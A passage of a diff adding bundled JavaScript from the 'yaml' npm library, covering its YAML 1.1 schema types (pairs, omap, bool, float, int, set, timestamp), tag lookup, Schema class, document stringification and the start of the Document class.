+        return stringifyString.stringifyString({ comment, type, value: str2 }, ctx, onComment, onChompKeep);
+      }
+    };
+    exports.binary = binary2;
+  }
+});
+
+// node_modules/yaml/dist/schema/yaml-1.1/pairs.js
+var require_pairs2 = __commonJS({
+  "node_modules/yaml/dist/schema/yaml-1.1/pairs.js"(exports) {
+    "use strict";
+    var identity3 = require_identity();
+    var Pair = require_Pair();
+    var Scalar = require_Scalar();
+    var YAMLSeq = require_YAMLSeq();
+    function resolvePairs(seq, onError) {
+      if (identity3.isSeq(seq)) {
+        for (let i3 = 0; i3 < seq.items.length; ++i3) {
+          let item = seq.items[i3];
+          if (identity3.isPair(item))
+            continue;
+          else if (identity3.isMap(item)) {
+            if (item.items.length > 1)
+              onError("Each pair must have its own sequence indicator");
+            const pair = item.items[0] || new Pair.Pair(new Scalar.Scalar(null));
+            if (item.commentBefore)
+              pair.key.commentBefore = pair.key.commentBefore ? `${item.commentBefore}
+${pair.key.commentBefore}` : item.commentBefore;
+            if (item.comment) {
+              const cn = pair.value ?? pair.key;
+              cn.comment = cn.comment ? `${item.comment}
+${cn.comment}` : item.comment;
+            }
+            item = pair;
+          }
+          seq.items[i3] = identity3.isPair(item) ? item : new Pair.Pair(item);
+        }
+      } else
+        onError("Expected a sequence for this tag");
+      return seq;
+    }
+    function createPairs(schema, iterable, ctx) {
+      const { replacer } = ctx;
+      const pairs2 = new YAMLSeq.YAMLSeq(schema);
+      pairs2.tag = "tag:yaml.org,2002:pairs";
+      let i3 = 0;
+      if (iterable && Symbol.iterator in Object(iterable))
+        for (let it of iterable) {
+          if (typeof replacer === "function")
+            it = replacer.call(iterable, String(i3++), it);
+          let key, value;
+          if (Array.isArray(it)) {
+            if (it.length === 2) {
+              key = it[0];
+              value = it[1];
+            } else
+              throw new TypeError(`Expected [key, value] tuple: ${it}`);
+          } else if (it && it instanceof Object) {
+            const keys = Object.keys(it);
+            if (keys.length === 1) {
+              key = keys[0];
+              value = it[key];
+            } else {
+              throw new TypeError(`Expected tuple with one key, not ${keys.length} keys`);
+            }
+          } else {
+            key = it;
+          }
+          pairs2.items.push(Pair.createPair(key, value, ctx));
+        }
+      return pairs2;
+    }
+    var pairs = {
+      collection: "seq",
+      default: false,
+      tag: "tag:yaml.org,2002:pairs",
+      resolve: resolvePairs,
+      createNode: createPairs
+    };
+    exports.createPairs = createPairs;
+    exports.pairs = pairs;
+    exports.resolvePairs = resolvePairs;
+  }
+});
+
+// node_modules/yaml/dist/schema/yaml-1.1/omap.js
+var require_omap2 = __commonJS({
+  "node_modules/yaml/dist/schema/yaml-1.1/omap.js"(exports) {
+    "use strict";
+    var identity3 = require_identity();
+    var toJS = require_toJS();
+    var YAMLMap = require_YAMLMap();
+    var YAMLSeq = require_YAMLSeq();
+    var pairs = require_pairs2();
+    var YAMLOMap = class _YAMLOMap extends YAMLSeq.YAMLSeq {
+      constructor() {
+        super();
+        this.add = YAMLMap.YAMLMap.prototype.add.bind(this);
+        this.delete = YAMLMap.YAMLMap.prototype.delete.bind(this);
+        this.get = YAMLMap.YAMLMap.prototype.get.bind(this);
+        this.has = YAMLMap.YAMLMap.prototype.has.bind(this);
+        this.set = YAMLMap.YAMLMap.prototype.set.bind(this);
+        this.tag = _YAMLOMap.tag;
+      }
+      /**
+       * If `ctx` is given, the return type is actually `Map<unknown, unknown>`,
+       * but TypeScript won't allow widening the signature of a child method.
+       */
+      toJSON(_, ctx) {
+        if (!ctx)
+          return super.toJSON(_);
+        const map = /* @__PURE__ */ new Map();
+        if (ctx?.onCreate)
+          ctx.onCreate(map);
+        for (const pair of this.items) {
+          let key, value;
+          if (identity3.isPair(pair)) {
+            key = toJS.toJS(pair.key, "", ctx);
+            value = toJS.toJS(pair.value, key, ctx);
+          } else {
+            key = toJS.toJS(pair, "", ctx);
+          }
+          if (map.has(key))
+            throw new Error("Ordered maps must not include duplicate keys");
+          map.set(key, value);
+        }
+        return map;
+      }
+      static from(schema, iterable, ctx) {
+        const pairs$1 = pairs.createPairs(schema, iterable, ctx);
+        const omap2 = new this();
+        omap2.items = pairs$1.items;
+        return omap2;
+      }
+    };
+    YAMLOMap.tag = "tag:yaml.org,2002:omap";
+    var omap = {
+      collection: "seq",
+      identify: (value) => value instanceof Map,
+      nodeClass: YAMLOMap,
+      default: false,
+      tag: "tag:yaml.org,2002:omap",
+      resolve(seq, onError) {
+        const pairs$1 = pairs.resolvePairs(seq, onError);
+        const seenKeys = [];
+        for (const { key } of pairs$1.items) {
+          if (identity3.isScalar(key)) {
+            if (seenKeys.includes(key.value)) {
+              onError(`Ordered maps must not include duplicate keys: ${key.value}`);
+            } else {
+              seenKeys.push(key.value);
+            }
+          }
+        }
+        return Object.assign(new YAMLOMap(), pairs$1);
+      },
+      createNode: (schema, iterable, ctx) => YAMLOMap.from(schema, iterable, ctx)
+    };
+    exports.YAMLOMap = YAMLOMap;
+    exports.omap = omap;
+  }
+});
+
+// node_modules/yaml/dist/schema/yaml-1.1/bool.js
+var require_bool3 = __commonJS({
+  "node_modules/yaml/dist/schema/yaml-1.1/bool.js"(exports) {
+    "use strict";
+    var Scalar = require_Scalar();
+    function boolStringify({ value, source }, ctx) {
+      const boolObj = value ? trueTag : falseTag;
+      if (source && boolObj.test.test(source))
+        return source;
+      return value ? ctx.options.trueStr : ctx.options.falseStr;
+    }
+    var trueTag = {
+      identify: (value) => value === true,
+      default: true,
+      tag: "tag:yaml.org,2002:bool",
+      test: /^(?:Y|y|[Yy]es|YES|[Tt]rue|TRUE|[Oo]n|ON)$/,
+      resolve: () => new Scalar.Scalar(true),
+      stringify: boolStringify
+    };
+    var falseTag = {
+      identify: (value) => value === false,
+      default: true,
+      tag: "tag:yaml.org,2002:bool",
+      test: /^(?:N|n|[Nn]o|NO|[Ff]alse|FALSE|[Oo]ff|OFF)$/,
+      resolve: () => new Scalar.Scalar(false),
+      stringify: boolStringify
+    };
+    exports.falseTag = falseTag;
+    exports.trueTag = trueTag;
+  }
+});
+
+// node_modules/yaml/dist/schema/yaml-1.1/float.js
+var require_float3 = __commonJS({
+  "node_modules/yaml/dist/schema/yaml-1.1/float.js"(exports) {
+    "use strict";
+    var Scalar = require_Scalar();
+    var stringifyNumber = require_stringifyNumber();
+    var floatNaN = {
+      identify: (value) => typeof value === "number",
+      default: true,
+      tag: "tag:yaml.org,2002:float",
+      test: /^(?:[-+]?\.(?:inf|Inf|INF)|\.nan|\.NaN|\.NAN)$/,
+      resolve: (str2) => str2.slice(-3).toLowerCase() === "nan" ? NaN : str2[0] === "-" ? Number.NEGATIVE_INFINITY : Number.POSITIVE_INFINITY,
+      stringify: stringifyNumber.stringifyNumber
+    };
+    var floatExp = {
+      identify: (value) => typeof value === "number",
+      default: true,
+      tag: "tag:yaml.org,2002:float",
+      format: "EXP",
+      test: /^[-+]?(?:[0-9][0-9_]*)?(?:\.[0-9_]*)?[eE][-+]?[0-9]+$/,
+      resolve: (str2) => parseFloat(str2.replace(/_/g, "")),
+      stringify(node) {
+        const num = Number(node.value);
+        return isFinite(num) ? num.toExponential() : stringifyNumber.stringifyNumber(node);
+      }
+    };
+    var float = {
+      identify: (value) => typeof value === "number",
+      default: true,
+      tag: "tag:yaml.org,2002:float",
+      test: /^[-+]?(?:[0-9][0-9_]*)?\.[0-9_]*$/,
+      resolve(str2) {
+        const node = new Scalar.Scalar(parseFloat(str2.replace(/_/g, "")));
+        const dot = str2.indexOf(".");
+        if (dot !== -1) {
+          const f = str2.substring(dot + 1).replace(/_/g, "");
+          if (f[f.length - 1] === "0")
+            node.minFractionDigits = f.length;
+        }
+        return node;
+      },
+      stringify: stringifyNumber.stringifyNumber
+    };
+    exports.float = float;
+    exports.floatExp = floatExp;
+    exports.floatNaN = floatNaN;
+  }
+});
+
+// node_modules/yaml/dist/schema/yaml-1.1/int.js
+var require_int3 = __commonJS({
+  "node_modules/yaml/dist/schema/yaml-1.1/int.js"(exports) {
+    "use strict";
+    var stringifyNumber = require_stringifyNumber();
+    var intIdentify = (value) => typeof value === "bigint" || Number.isInteger(value);
+    function intResolve(str2, offset, radix, { intAsBigInt }) {
+      const sign = str2[0];
+      if (sign === "-" || sign === "+")
+        offset += 1;
+      str2 = str2.substring(offset).replace(/_/g, "");
+      if (intAsBigInt) {
+        switch (radix) {
+          case 2:
+            str2 = `0b${str2}`;
+            break;
+          case 8:
+            str2 = `0o${str2}`;
+            break;
+          case 16:
+            str2 = `0x${str2}`;
+            break;
+        }
+        const n3 = BigInt(str2);
+        return sign === "-" ? BigInt(-1) * n3 : n3;
+      }
+      const n2 = parseInt(str2, radix);
+      return sign === "-" ? -1 * n2 : n2;
+    }
+    function intStringify(node, radix, prefix) {
+      const { value } = node;
+      if (intIdentify(value)) {
+        const str2 = value.toString(radix);
+        return value < 0 ? "-" + prefix + str2.substr(1) : prefix + str2;
+      }
+      return stringifyNumber.stringifyNumber(node);
+    }
+    var intBin = {
+      identify: intIdentify,
+      default: true,
+      tag: "tag:yaml.org,2002:int",
+      format: "BIN",
+      test: /^[-+]?0b[0-1_]+$/,
+      resolve: (str2, _onError, opt) => intResolve(str2, 2, 2, opt),
+      stringify: (node) => intStringify(node, 2, "0b")
+    };
+    var intOct = {
+      identify: intIdentify,
+      default: true,
+      tag: "tag:yaml.org,2002:int",
+      format: "OCT",
+      test: /^[-+]?0[0-7_]+$/,
+      resolve: (str2, _onError, opt) => intResolve(str2, 1, 8, opt),
+      stringify: (node) => intStringify(node, 8, "0")
+    };
+    var int = {
+      identify: intIdentify,
+      default: true,
+      tag: "tag:yaml.org,2002:int",
+      test: /^[-+]?[0-9][0-9_]*$/,
+      resolve: (str2, _onError, opt) => intResolve(str2, 0, 10, opt),
+      stringify: stringifyNumber.stringifyNumber
+    };
+    var intHex = {
+      identify: intIdentify,
+      default: true,
+      tag: "tag:yaml.org,2002:int",
+      format: "HEX",
+      test: /^[-+]?0x[0-9a-fA-F_]+$/,
+      resolve: (str2, _onError, opt) => intResolve(str2, 2, 16, opt),
+      stringify: (node) => intStringify(node, 16, "0x")
+    };
+    exports.int = int;
+    exports.intBin = intBin;
+    exports.intHex = intHex;
+    exports.intOct = intOct;
+  }
+});
+
+// node_modules/yaml/dist/schema/yaml-1.1/set.js
+var require_set2 = __commonJS({
+  "node_modules/yaml/dist/schema/yaml-1.1/set.js"(exports) {
+    "use strict";
+    var identity3 = require_identity();
+    var Pair = require_Pair();
+    var YAMLMap = require_YAMLMap();
+    var YAMLSet = class _YAMLSet extends YAMLMap.YAMLMap {
+      constructor(schema) {
+        super(schema);
+        this.tag = _YAMLSet.tag;
+      }
+      add(key) {
+        let pair;
+        if (identity3.isPair(key))
+          pair = key;
+        else if (key && typeof key === "object" && "key" in key && "value" in key && key.value === null)
+          pair = new Pair.Pair(key.key, null);
+        else
+          pair = new Pair.Pair(key, null);
+        const prev = YAMLMap.findPair(this.items, pair.key);
+        if (!prev)
+          this.items.push(pair);
+      }
+      /**
+       * If `keepPair` is `true`, returns the Pair matching `key`.
+       * Otherwise, returns the value of that Pair's key.
+       */
+      get(key, keepPair) {
+        const pair = YAMLMap.findPair(this.items, key);
+        return !keepPair && identity3.isPair(pair) ? identity3.isScalar(pair.key) ? pair.key.value : pair.key : pair;
+      }
+      set(key, value) {
+        if (typeof value !== "boolean")
+          throw new Error(`Expected boolean value for set(key, value) in a YAML set, not ${typeof value}`);
+        const prev = YAMLMap.findPair(this.items, key);
+        if (prev && !value) {
+          this.items.splice(this.items.indexOf(prev), 1);
+        } else if (!prev && value) {
+          this.items.push(new Pair.Pair(key));
+        }
+      }
+      toJSON(_, ctx) {
+        return super.toJSON(_, ctx, Set);
+      }
+      toString(ctx, onComment, onChompKeep) {
+        if (!ctx)
+          return JSON.stringify(this);
+        if (this.hasAllNullValues(true))
+          return super.toString(Object.assign({}, ctx, { allNullValues: true }), onComment, onChompKeep);
+        else
+          throw new Error("Set items must all have null values");
+      }
+      static from(schema, iterable, ctx) {
+        const { replacer } = ctx;
+        const set2 = new this(schema);
+        if (iterable && Symbol.iterator in Object(iterable))
+          for (let value of iterable) {
+            if (typeof replacer === "function")
+              value = replacer.call(iterable, value, value);
+            set2.items.push(Pair.createPair(value, null, ctx));
+          }
+        return set2;
+      }
+    };
+    YAMLSet.tag = "tag:yaml.org,2002:set";
+    var set = {
+      collection: "map",
+      identify: (value) => value instanceof Set,
+      nodeClass: YAMLSet,
+      default: false,
+      tag: "tag:yaml.org,2002:set",
+      createNode: (schema, iterable, ctx) => YAMLSet.from(schema, iterable, ctx),
+      resolve(map, onError) {
+        if (identity3.isMap(map)) {
+          if (map.hasAllNullValues(true))
+            return Object.assign(new YAMLSet(), map);
+          else
+            onError("Set items must all have null values");
+        } else
+          onError("Expected a mapping for this tag");
+        return map;
+      }
+    };
+    exports.YAMLSet = YAMLSet;
+    exports.set = set;
+  }
+});
+
+// node_modules/yaml/dist/schema/yaml-1.1/timestamp.js
+var require_timestamp2 = __commonJS({
+  "node_modules/yaml/dist/schema/yaml-1.1/timestamp.js"(exports) {
+    "use strict";
+    var stringifyNumber = require_stringifyNumber();
+    function parseSexagesimal(str2, asBigInt) {
+      const sign = str2[0];
+      const parts2 = sign === "-" || sign === "+" ? str2.substring(1) : str2;
+      const num = (n2) => asBigInt ? BigInt(n2) : Number(n2);
+      const res = parts2.replace(/_/g, "").split(":").reduce((res2, p) => res2 * num(60) + num(p), num(0));
+      return sign === "-" ? num(-1) * res : res;
+    }
+    function stringifySexagesimal(node) {
+      let { value } = node;
+      let num = (n2) => n2;
+      if (typeof value === "bigint")
+        num = (n2) => BigInt(n2);
+      else if (isNaN(value) || !isFinite(value))
+        return stringifyNumber.stringifyNumber(node);
+      let sign = "";
+      if (value < 0) {
+        sign = "-";
+        value *= num(-1);
+      }
+      const _60 = num(60);
+      const parts2 = [value % _60];
+      if (value < 60) {
+        parts2.unshift(0);
+      } else {
+        value = (value - parts2[0]) / _60;
+        parts2.unshift(value % _60);
+        if (value >= 60) {
+          value = (value - parts2[0]) / _60;
+          parts2.unshift(value);
+        }
+      }
+      return sign + parts2.map((n2) => String(n2).padStart(2, "0")).join(":").replace(/000000\d*$/, "");
+    }
+    var intTime = {
+      identify: (value) => typeof value === "bigint" || Number.isInteger(value),
+      default: true,
+      tag: "tag:yaml.org,2002:int",
+      format: "TIME",
+      test: /^[-+]?[0-9][0-9_]*(?::[0-5]?[0-9])+$/,
+      resolve: (str2, _onError, { intAsBigInt }) => parseSexagesimal(str2, intAsBigInt),
+      stringify: stringifySexagesimal
+    };
+    var floatTime = {
+      identify: (value) => typeof value === "number",
+      default: true,
+      tag: "tag:yaml.org,2002:float",
+      format: "TIME",
+      test: /^[-+]?[0-9][0-9_]*(?::[0-5]?[0-9])+\.[0-9_]*$/,
+      resolve: (str2) => parseSexagesimal(str2, false),
+      stringify: stringifySexagesimal
+    };
+    var timestamp = {
+      identify: (value) => value instanceof Date,
+      default: true,
+      tag: "tag:yaml.org,2002:timestamp",
+      // If the time zone is omitted, the timestamp is assumed to be specified in UTC. The time part
+      // may be omitted altogether, resulting in a date format. In such a case, the time part is
+      // assumed to be 00:00:00Z (start of day, UTC).
+      test: RegExp("^([0-9]{4})-([0-9]{1,2})-([0-9]{1,2})(?:(?:t|T|[ \\t]+)([0-9]{1,2}):([0-9]{1,2}):([0-9]{1,2}(\\.[0-9]+)?)(?:[ \\t]*(Z|[-+][012]?[0-9](?::[0-9]{2})?))?)?$"),
+      resolve(str2) {
+        const match = str2.match(timestamp.test);
+        if (!match)
+          throw new Error("!!timestamp expects a date, starting with yyyy-mm-dd");
+        const [, year, month, day, hour, minute, second] = match.map(Number);
+        const millisec = match[7] ? Number((match[7] + "00").substr(1, 3)) : 0;
+        let date = Date.UTC(year, month - 1, day, hour || 0, minute || 0, second || 0, millisec);
+        const tz = match[8];
+        if (tz && tz !== "Z") {
+          let d = parseSexagesimal(tz, false);
+          if (Math.abs(d) < 30)
+            d *= 60;
+          date -= 6e4 * d;
+        }
+        return new Date(date);
+      },
+      stringify: ({ value }) => value?.toISOString().replace(/(T00:00:00)?\.000Z$/, "") ?? ""
+    };
+    exports.floatTime = floatTime;
+    exports.intTime = intTime;
+    exports.timestamp = timestamp;
+  }
+});
+
+// node_modules/yaml/dist/schema/yaml-1.1/schema.js
+var require_schema4 = __commonJS({
+  "node_modules/yaml/dist/schema/yaml-1.1/schema.js"(exports) {
+    "use strict";
+    var map = require_map2();
+    var _null = require_null2();
+    var seq = require_seq2();
+    var string = require_string();
+    var binary2 = require_binary2();
+    var bool2 = require_bool3();
+    var float = require_float3();
+    var int = require_int3();
+    var merge = require_merge3();
+    var omap = require_omap2();
+    var pairs = require_pairs2();
+    var set = require_set2();
+    var timestamp = require_timestamp2();
+    var schema = [
+      map.map,
+      seq.seq,
+      string.string,
+      _null.nullTag,
+      bool2.trueTag,
+      bool2.falseTag,
+      int.intBin,
+      int.intOct,
+      int.int,
+      int.intHex,
+      float.floatNaN,
+      float.floatExp,
+      float.float,
+      binary2.binary,
+      merge.merge,
+      omap.omap,
+      pairs.pairs,
+      set.set,
+      timestamp.intTime,
+      timestamp.floatTime,
+      timestamp.timestamp
+    ];
+    exports.schema = schema;
+  }
+});
+
+// node_modules/yaml/dist/schema/tags.js
+var require_tags = __commonJS({
+  "node_modules/yaml/dist/schema/tags.js"(exports) {
+    "use strict";
+    var map = require_map2();
+    var _null = require_null2();
+    var seq = require_seq2();
+    var string = require_string();
+    var bool2 = require_bool2();
+    var float = require_float2();
+    var int = require_int2();
+    var schema = require_schema2();
+    var schema$1 = require_schema3();
+    var binary2 = require_binary2();
+    var merge = require_merge3();
+    var omap = require_omap2();
+    var pairs = require_pairs2();
+    var schema$2 = require_schema4();
+    var set = require_set2();
+    var timestamp = require_timestamp2();
+    var schemas = /* @__PURE__ */ new Map([
+      ["core", schema.schema],
+      ["failsafe", [map.map, seq.seq, string.string]],
+      ["json", schema$1.schema],
+      ["yaml11", schema$2.schema],
+      ["yaml-1.1", schema$2.schema]
+    ]);
+    var tagsByName = {
+      binary: binary2.binary,
+      bool: bool2.boolTag,
+      float: float.float,
+      floatExp: float.floatExp,
+      floatNaN: float.floatNaN,
+      floatTime: timestamp.floatTime,
+      int: int.int,
+      intHex: int.intHex,
+      intOct: int.intOct,
+      intTime: timestamp.intTime,
+      map: map.map,
+      merge: merge.merge,
+      null: _null.nullTag,
+      omap: omap.omap,
+      pairs: pairs.pairs,
+      seq: seq.seq,
+      set: set.set,
+      timestamp: timestamp.timestamp
+    };
+    var coreKnownTags = {
+      "tag:yaml.org,2002:binary": binary2.binary,
+      "tag:yaml.org,2002:merge": merge.merge,
+      "tag:yaml.org,2002:omap": omap.omap,
+      "tag:yaml.org,2002:pairs": pairs.pairs,
+      "tag:yaml.org,2002:set": set.set,
+      "tag:yaml.org,2002:timestamp": timestamp.timestamp
+    };
+    function getTags(customTags, schemaName, addMergeTag) {
+      const schemaTags = schemas.get(schemaName);
+      if (schemaTags && !customTags) {
+        return addMergeTag && !schemaTags.includes(merge.merge) ? schemaTags.concat(merge.merge) : schemaTags.slice();
+      }
+      let tags = schemaTags;
+      if (!tags) {
+        if (Array.isArray(customTags))
+          tags = [];
+        else {
+          const keys = Array.from(schemas.keys()).filter((key) => key !== "yaml11").map((key) => JSON.stringify(key)).join(", ");
+          throw new Error(`Unknown schema "${schemaName}"; use one of ${keys} or define customTags array`);
+        }
+      }
+      if (Array.isArray(customTags)) {
+        for (const tag of customTags)
+          tags = tags.concat(tag);
+      } else if (typeof customTags === "function") {
+        tags = customTags(tags.slice());
+      }
+      if (addMergeTag)
+        tags = tags.concat(merge.merge);
+      return tags.reduce((tags2, tag) => {
+        const tagObj = typeof tag === "string" ? tagsByName[tag] : tag;
+        if (!tagObj) {
+          const tagName = JSON.stringify(tag);
+          const keys = Object.keys(tagsByName).map((key) => JSON.stringify(key)).join(", ");
+          throw new Error(`Unknown custom tag ${tagName}; use one of ${keys}`);
+        }
+        if (!tags2.includes(tagObj))
+          tags2.push(tagObj);
+        return tags2;
+      }, []);
+    }
+    exports.coreKnownTags = coreKnownTags;
+    exports.getTags = getTags;
+  }
+});
+
+// node_modules/yaml/dist/schema/Schema.js
+var require_Schema = __commonJS({
+  "node_modules/yaml/dist/schema/Schema.js"(exports) {
+    "use strict";
+    var identity3 = require_identity();
+    var map = require_map2();
+    var seq = require_seq2();
+    var string = require_string();
+    var tags = require_tags();
+    var sortMapEntriesByKey = (a2, b) => a2.key < b.key ? -1 : a2.key > b.key ? 1 : 0;
+    var Schema = class _Schema {
+      constructor({ compat, customTags, merge, resolveKnownTags, schema, sortMapEntries, toStringDefaults }) {
+        this.compat = Array.isArray(compat) ? tags.getTags(compat, "compat") : compat ? tags.getTags(null, compat) : null;
+        this.name = typeof schema === "string" && schema || "core";
+        this.knownTags = resolveKnownTags ? tags.coreKnownTags : {};
+        this.tags = tags.getTags(customTags, this.name, merge);
+        this.toStringOptions = toStringDefaults ?? null;
+        Object.defineProperty(this, identity3.MAP, { value: map.map });
+        Object.defineProperty(this, identity3.SCALAR, { value: string.string });
+        Object.defineProperty(this, identity3.SEQ, { value: seq.seq });
+        this.sortMapEntries = typeof sortMapEntries === "function" ? sortMapEntries : sortMapEntries === true ? sortMapEntriesByKey : null;
+      }
+      clone() {
+        const copy = Object.create(_Schema.prototype, Object.getOwnPropertyDescriptors(this));
+        copy.tags = this.tags.slice();
+        return copy;
+      }
+    };
+    exports.Schema = Schema;
+  }
+});
+
+// node_modules/yaml/dist/stringify/stringifyDocument.js
+var require_stringifyDocument = __commonJS({
+  "node_modules/yaml/dist/stringify/stringifyDocument.js"(exports) {
+    "use strict";
+    var identity3 = require_identity();
+    var stringify = require_stringify();
+    var stringifyComment = require_stringifyComment();
+    function stringifyDocument(doc, options) {
+      const lines = [];
+      let hasDirectives = options.directives === true;
+      if (options.directives !== false && doc.directives) {
+        const dir = doc.directives.toString(doc);
+        if (dir) {
+          lines.push(dir);
+          hasDirectives = true;
+        } else if (doc.directives.docStart)
+          hasDirectives = true;
+      }
+      if (hasDirectives)
+        lines.push("---");
+      const ctx = stringify.createStringifyContext(doc, options);
+      const { commentString } = ctx.options;
+      if (doc.commentBefore) {
+        if (lines.length !== 1)
+          lines.unshift("");
+        const cs = commentString(doc.commentBefore);
+        lines.unshift(stringifyComment.indentComment(cs, ""));
+      }
+      let chompKeep = false;
+      let contentComment = null;
+      if (doc.contents) {
+        if (identity3.isNode(doc.contents)) {
+          if (doc.contents.spaceBefore && hasDirectives)
+            lines.push("");
+          if (doc.contents.commentBefore) {
+            const cs = commentString(doc.contents.commentBefore);
+            lines.push(stringifyComment.indentComment(cs, ""));
+          }
+          ctx.forceBlockIndent = !!doc.comment;
+          contentComment = doc.contents.comment;
+        }
+        const onChompKeep = contentComment ? void 0 : () => chompKeep = true;
+        let body2 = stringify.stringify(doc.contents, ctx, () => contentComment = null, onChompKeep);
+        if (contentComment)
+          body2 += stringifyComment.lineComment(body2, "", commentString(contentComment));
+        if ((body2[0] === "|" || body2[0] === ">") && lines[lines.length - 1] === "---") {
+          lines[lines.length - 1] = `--- ${body2}`;
+        } else
+          lines.push(body2);
+      } else {
+        lines.push(stringify.stringify(doc.contents, ctx));
+      }
+      if (doc.directives?.docEnd) {
+        if (doc.comment) {
+          const cs = commentString(doc.comment);
+          if (cs.includes("\n")) {
+            lines.push("...");
+            lines.push(stringifyComment.indentComment(cs, ""));
+          } else {
+            lines.push(`... ${cs}`);
+          }
+        } else {
+          lines.push("...");
+        }
+      } else {
+        let dc = doc.comment;
+        if (dc && chompKeep)
+          dc = dc.replace(/^\n+/, "");
+        if (dc) {
+          if ((!chompKeep || contentComment) && lines[lines.length - 1] !== "")
+            lines.push("");
+          lines.push(stringifyComment.indentComment(commentString(dc), ""));
+        }
+      }
+      return lines.join("\n") + "\n";
+    }
+    exports.stringifyDocument = stringifyDocument;
+  }
+});
+
+// node_modules/yaml/dist/doc/Document.js
+var require_Document = __commonJS({
+  "node_modules/yaml/dist/doc/Document.js"(exports) {
+    "use strict";
+    var Alias = require_Alias();
+    var Collection = require_Collection();
+    var identity3 = require_identity();
+    var Pair = require_Pair();
+    var toJS = require_toJS();
+    var Schema = require_Schema();
+    var stringifyDocument = require_stringifyDocument();
+    var anchors = require_anchors();
+    var applyReviver = require_applyReviver();
+    var createNode = require_createNode();
+    var directives = require_directives();
+    var Document = class _Document {
+      constructor(value, replacer, options) {
+        this.commentBefore = null;
+        this.comment = null;
+        this.errors = [];
+        this.warnings = [];
+        Object.defineProperty(this, identity3.NODE_TYPE, { value: identity3.DOC });
+        let _replacer = null;
+        if (typeof replacer === "function" || Array.isArray(replacer)) {
+          _replacer = replacer;
+        } else if (options === void 0 && replacer) {
+          options = replacer;
+          replacer = void 0;
+        }
+        const opt = Object.assign({
+          intAsBigInt: false,
+          keepSourceTokens: false,
+          logLevel: "warn",
+          prettyErrors: true,
+          strict: true,
+          stringKeys: false,
+          uniqueKeys: true,
+          version: "1.2"
+        }, options);
+        this.options = opt;
+        let { version } = opt;
+        if (options?._directives) {
+          this.directives = options._directives.atDocument();
+          if (this.directives.yaml.explicit)
+            version = this.directives.yaml.version;
+        } else
+          this.directives = new directives.Directives({ version });
+        this.setSchema(version, options);
+        this.contents = value === void 0 ? null : this.createNode(value, _replacer, options);
+      }
+      /**
+       * Create a deep copy of this Document and its contents.
+       *
+       * Custom Node values that inherit from `Object` still refer to their original instances.
+       */
+      clone() {
+        const copy = Object.create(_Document.prototype, {
+          [identity3.NODE_TYPE]: { value: identity3.DOC }
+        });
+        copy.commentBefore = this.commentBefore;
+        copy.comment = this.comment;
+        copy.errors = this.errors.slice();
+        copy.warnings = this.warnings.slice();
+        copy.options = Object.assign({}, this.options);
+        if (this.directives)
+          copy.directives = this.directives.clone();
+        copy.schema = this.schema.clone();
+        copy.contents = identity3.isNode(this.contents) ? this.contents.clone(copy.schema) : this.contents;
+        if (this.range)
+          copy.range = this.range.slice();
+        return copy;
+      }
+      /** Adds a value to the document. */
+      add(value) {
+        if (assertCollection(this.contents))
+          this.contents.add(value);
+      }
+      /** Adds a value to the document. */
+      addIn(path6, value) {
+        if (assertCollection(this.contents))
+          this.contents.addIn(path6, value);
+      }
+      /**
+       * Create a new `Alias` node, ensuring that the target `node` has the required anchor.
+       *
+       * If `node` already has an anchor, `name` is ignored.
+       * Otherwise, the `node.anchor` value will be set to `name`,
+       * or if an anchor with that name is already present in the document,
+       * `name` will be used as a prefix for a new unique anchor.
+       * If `name` is undefined, the generated anchor will use 'a' as a prefix.
+       */
+      createAlias(node, name2) {
+        if (!node.anchor) {
+          const prev = anchors.anchorNames(this);
+          node.anchor = // eslint-disable-next-line @typescript-eslint/prefer-nullish-coalescing
+          !name2 || prev.has(name2) ? anchors.findNewAnchor(name2 || "a", prev) : name2;
+        }
+        return new Alias.Alias(node.anchor);
+      }
+      createNode(value, replacer, options) {
+        let _replacer = void 0;
+        if (typeof replacer === "function") {
+          value = replacer.call({ "": value }, "", value);
+          _replacer = replacer;
+        } else if (Array.isArray(replacer)) {
+          const keyToStr = (v) => typeof v === "number" || v instanceof String || v instanceof Number;
+          const asStr = replacer.filter(keyToStr).map(String);
+          if (asStr.length > 0)
+            replacer = replacer.concat(asStr);
+          _replacer = replacer;
+        } else if (options === void 0 && replacer) {
+          options = replacer;
+          replacer = void 0;
+        }
+        const { aliasDuplicateObjects, anchorPrefix, flow, keepUndefined, onTagObj, tag } = options ?? {};
+        const { onAnchor, setAnchors, sourceObjects } = anchors.createNodeAnchors(
+          this,
+          // eslint-disable-next-line @typescript-eslint/prefer-nullish-coalescing
+          anchorPrefix || "a"
+        );
+        const ctx = {
+          aliasDuplicateObjects: aliasDuplicateObjects ?? true,
+          keepUndefined: keepUndefined ?? false,
+          onAnchor,
+          onTagObj,
+          replacer: _replacer,
+          schema: this.schema,
+          sourceObjects
+        };
+        const node = createNode.createNode(value, tag, ctx);
+        if (flow && identity3.isCollection(node))
+          node.flow = true;
+        setAnchors();
+        return node;
+      }
+      /**
+       * Convert a key and a value into a `Pair` using the current schema,
+       * recursively wrapping all values as `Scalar` or `Collection` nodes.
+       */
+      createPair(key, value, options = {}) {
+        const k = this.createNode(key, null, options);
+        const v = this.createNode(value, null, options);
+        return new Pair.Pair(k, v);
+      }
+      /**
+       * Removes a value from the document.
+       * @returns `true` if the item was found and removed.
+       */
+      delete(key) {
+        return assertCollection(this.contents) ? this.contents.delete(key) : false;
+      }
+      /**
+       * Removes a value from the document.
+       * @returns `true` if the item was found and removed.
+       */
+      deleteIn(path6) {
+        if (Collection.isEmptyPath(path6)) {
+          if (this.contents == null)
+            return false;
+          this.contents = null;
+          return true;
+        }
+        return assertCollection(this.contents) ? this.contents.deleteIn(path6) : false;
+      }
+      /**
+       * Returns item at `key`, or `undefined` if not found. By default unwraps
+       * scalar values from their surrounding node; to disable set `keepScalar` to
+       * `true` (collections are always returned intact).
+       */
+      get(key, keepScalar) {
+        return identity3.isCollection(this.contents) ? this.contents.get(key, keepScalar) : void 0;
+      }
+      /**
+       * Returns item at `path`, or `undefined` if not found. By default unwraps
+       * scalar values from their surrounding node; to disable set `keepScalar` to
+       * `true` (collections are always returned intact).
+       */
+      getIn(path6, keepScalar) {
+        if (Collection.isEmptyPath(path6))
+          return !keepScalar && identity3.isScalar(this.contents) ? this.contents.value : this.contents;
+        return identity3.isCollection(this.contents) ? this.contents.getIn(path6, keepScalar) : void 0;
+      }
+      /**
+       * Checks if the document includes a value with the key `key`.
+       */
+      has(key) {
+        return identity3.isCollection(this.contents) ? this.contents.has(key) : false;
+      }
+      /**
+       * Checks if the document includes a value at `path`.
+       */
+      hasIn(path6) {
+        if (Collection.isEmptyPath(path6))
